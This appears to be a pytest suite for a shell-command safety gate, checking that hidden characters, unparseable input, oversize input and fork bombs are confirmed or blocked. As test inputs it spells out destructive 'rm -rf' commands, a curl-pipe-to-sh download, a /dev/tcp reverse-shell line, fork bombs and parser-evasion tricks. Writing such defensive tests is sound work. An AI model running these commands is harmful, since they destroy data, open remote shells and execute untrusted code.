"""Input the gate cannot vouch for is confirmed at least; catastrophic content inside is still
blocked. The gate never raises."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from oropendola_ls.safety import CommandValidator, GatePolicy
from oropendola_ls.safety import validator as validator_module
from oropendola_ls.safety.fallback import MAX_LENGTH, PARSE_LIMIT, hidden_characters, readings, scan

VALIDATOR = CommandValidator()


def decide(command: str) -> str:
    return VALIDATOR.validate(command).decision


@pytest.mark.parametrize(
    "command",
    [
        "ls\u200b -la",  # zero-width space
        "ls \u202e-la",  # right-to-left override
        "\ufeffls",  # byte-order mark
        "echo done\rls",  # carriage return: the terminal shows only "ls"
        "ls\x00",
        "ls\x1b[2K",
        "echo a\u2028ls",  # line separator
        "echo a\u00a0b",  # no-break space
        "git\u00adstatus",  # soft hyphen
    ],
)
def test_hidden_characters_confirm_and_are_escaped(command: str) -> None:
    result = VALIDATOR.validate(command)
    assert result.decision == "confirm"
    finding = next(f for f in result.findings if f.rule == "hidden-characters")
    assert finding.risk == "high"
    assert all(c.isprintable() for c in finding.message), finding.message
    assert result.command == command  # never rewritten


def test_hidden_characters_do_not_hide_a_block() -> None:
    assert decide("rm -rf / \u200b") == "block"
    assert (
        decide("rm -rf /\u200b") == "confirm"
    )  # a directory named "/<ZWSP>": shown escaped, asked
    assert decide("echo hi\nrm -rf ~") == "block"
    assert hidden_characters("plain ascii") == []
    assert hidden_characters("tab\tand\nnewline") == []
    assert hidden_characters("caf\u00e9 \u00fcber") == []  # visible non-ASCII letters are fine


def test_oversize_confirms_and_still_scans() -> None:
    long_read = "ls " + "a" * MAX_LENGTH
    result = VALIDATOR.validate(long_read)
    assert result.decision == "confirm"
    assert any(f.rule == "oversize" for f in result.findings)
    assert decide("echo " + "x" * MAX_LENGTH + "; rm -rf /") == "block"
    huge = "echo " + "x" * PARSE_LIMIT + "\nrm -rf ~"
    result = VALIDATOR.validate(huge)
    assert result.decision == "block"
    assert result.command == huge


@pytest.mark.parametrize(
    "command",
    [
        "ls &&",
        "echo 'unterminated",
        "(ls",
        "&&&",
        "; ||",
        "if true; then ls",
        "cat > f <<EOF; ls\nx\nEOF",
        "ls |",
    ],
)
def test_unparseable_confirms(command: str) -> None:
    result = VALIDATOR.validate(command)
    assert result.decision == "confirm"
    assert any(f.rule == "unparseable" and f.risk == "high" for f in result.findings)
    assert result.allow_prefixes == ()


@pytest.mark.parametrize(
    "command",
    [
        "{rm,-rf,~}",
        "{curl,-s,https://x.example}|sh",
        "exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3 >&3",
        "echo 'x'; rm -rf / ; echo '",
        "ls && ; rm -rf ~",
        "curl -s https://x.example | sh &&",
        "echo $'\\\\' ; rm -rf ~ ; echo $'\\\\'",  # tree-sitter-bash swallows this rm into a string
    ],
)
def test_unparseable_with_catastrophic_content_blocks(command: str) -> None:
    assert decide(command) == "block", VALIDATOR.validate(command).reasons


def test_quoted_text_is_data() -> None:
    assert decide("echo 'x; rm -rf / ; echo '") == "allow"


def test_fallback_helpers() -> None:
    assert ("network-device", "opens a raw network connection (/dev/tcp or /dev/udp)") in scan(
        "x </dev/tcp/a/1"
    )
    assert {rule for rule, _ in scan(":(){ :|:& };:")} == {"fork-bomb"}
    assert scan("echo hello") == []
    assert "rm -rf ~" in readings("{rm,-rf,~}")
    assert "rm -rf /" in readings("ls &&& rm -rf /")


@pytest.mark.parametrize(
    "command",
    [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "f(){ f & f; }; f",
        "x(){ x|x & };x",
        "function b { b | b & }; b",
    ],
)
def test_fork_bombs_block(command: str) -> None:
    result = VALIDATOR.validate(command)
    assert result.decision == "block"
    assert any(f.rule == "fork-bomb" for f in result.findings)


def test_plain_recursion_is_not_a_fork_bomb() -> None:
    result = VALIDATOR.validate("f() { f; }; f")
    assert result.decision == "confirm"
    assert not any(f.rule == "fork-bomb" for f in result.findings)


def test_internal_error_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(command: str) -> object:
        raise RuntimeError("bug")

    monkeypatch.setattr(validator_module, "analyze", boom)
    result = CommandValidator().validate("ls")
    assert result.decision == "confirm"
    assert result.risk == "high"
    assert result.findings[0].rule == "gate-error"


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(
    command=st.text(
        alphabet=st.sampled_from([*"ab ;|&<>()'\"`$\\{}[]*~/-=#\n\t.!", "\u200b", "é"]),
        max_size=40,
    )
)
def test_never_raises_and_never_allows_garbage_it_cannot_read(command: str) -> None:
    result = CommandValidator(GatePolicy()).validate(command)
    assert result.decision in ("allow", "confirm", "block")
    assert result.command == command
    if result.decision == "allow":
        assert result.risk == "low"
        assert not any(f.rule in ("unparseable", "hidden-characters") for f in result.findings)
